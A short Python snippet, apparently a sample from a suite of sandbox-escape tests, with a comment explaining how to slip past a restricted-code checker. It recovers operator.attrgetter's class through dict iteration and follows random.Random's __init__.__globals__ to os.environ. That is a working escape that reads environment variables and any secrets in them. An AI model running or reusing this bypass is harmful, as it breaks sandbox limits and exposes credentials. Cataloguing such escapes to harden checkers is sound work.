# family: computed
# Escape: an index of a subscript store is an operand, so `seen[type(getter)] = 1` passes; iterating the dict
# gives the class back (the attrgetter class). With it any run-time attribute path is followed: from
# random.Random through __init__.__globals__ to os.environ.
import operator
import random


def tool(word: str = "globals") -> str:
    seen = {}
    seen[type(operator.attrgetter("real"))] = 1
    for getter in seen:
        scope = getter("__init__.__" + word + "__")(random.Random())
        return str(scope["_os"].environ)
    return ""
